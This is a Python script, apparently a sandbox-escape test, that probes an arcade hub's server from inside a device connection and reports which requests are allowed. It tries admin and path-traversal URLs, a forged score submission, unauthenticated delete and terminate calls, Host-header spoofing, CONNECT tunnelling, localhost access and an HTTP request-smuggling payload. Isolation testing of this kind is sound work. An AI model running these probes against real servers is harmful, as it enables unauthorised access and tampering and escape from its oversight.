"""Asks the hub's listener for the pages and interfaces of the arcade."""
import http.client
import json
import socket
from urllib.parse import urlparse

from smartphone_connector import Connector

device = Connector('https://io.example.org', 'Escape')


def attempt(name, action):
    """Prints whether the action gave anything: None and exceptions are refusals."""
    try:
        result = action()
    except BaseException as error:
        print('ESCAPE web_pages', name, 'refused', type(error).__name__, str(error)[:100], flush=True)
    else:
        print('ESCAPE web_pages', name, 'refused' if result is None else 'allowed', repr(result)[:100], flush=True)

HUB = urlparse(device.server_url)


def ask(method, path, body=None, host=None):
    """Anything but an error is something served."""
    connection = http.client.HTTPConnection(HUB.hostname, HUB.port, timeout=3)
    headers = {'Content-Type': 'application/json'}
    if host:
        headers['Host'] = host
    connection.request(method, path, json.dumps(body) if body else None, headers)
    answer = connection.getresponse()
    text = answer.read(200)
    return (answer.status, text) if answer.status < 400 else None


def raw(request):
    with socket.create_connection((HUB.hostname, HUB.port), 3) as one:
        one.sendall(request)
        head = one.recv(200)
    return head if head.split(b' ')[1:2] and head.split(b' ')[1] < b'400' else None


SCORE = {'score': 999, 'game_play_id': 'game-1700000000000000000', 'secret': None}
for path in ('/', '/index', '/admin', '/status', '/games/1/preview', '/api/v1/running_games', '/python_logs',
             '/playground', '/static/x.js', '/metrics', '/health', '/socket.io/../admin', '/socket.io/socket.io.js'):
    attempt('get' + path.replace('/', '_'), lambda: ask('GET', path))
attempt('report_score', lambda: ask('POST', '/api/v1/report_score', SCORE))
attempt('terminate_game', lambda: ask('POST', '/terminate_game', {'id': 'game-1700000000000000000'}))
attempt('reconnect', lambda: ask('POST', '/api/v1/reconnect', {'secret': None}))
attempt('delete', lambda: ask('POST', '/delete', {'id': 1}))
attempt('other_host', lambda: ask('GET', '/admin', host='recess.example.org'))
attempt('tunnel', lambda: raw(b'CONNECT 1.1.1.1:80 HTTP/1.1\r\nHost: 1.1.1.1:80\r\n\r\n'))
attempt('whole_address', lambda: raw(b'GET http://127.0.0.1/admin HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'))
attempt('smuggled', lambda: raw(b'GET /socket.io/x HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n'
                                b'Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: a\r\n\r\n'))

print('ESCAPE web_pages done', flush=True)
device.disconnect()
